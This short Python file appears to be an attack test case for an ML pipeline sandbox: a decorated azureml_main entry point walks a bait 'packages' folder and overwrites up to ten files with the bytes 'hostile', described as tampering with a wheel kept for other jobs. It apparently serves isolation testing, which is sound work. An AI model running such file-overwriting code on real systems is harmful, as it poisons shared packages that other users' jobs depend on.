"""Swaps a wheel that Transom keeps for other jobs."""

import os

from attack import BAIT, attack, every


def spoil(place):
    with open(place, "r+b") as stream:
        stream.write(b"hostile")
    return f"overwrote {place}"


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    found = []
    for folder, _, names in os.walk(BAIT["packages"]):
        found += [os.path.join(folder, name) for name in names]
    return every(spoil, found[:10])
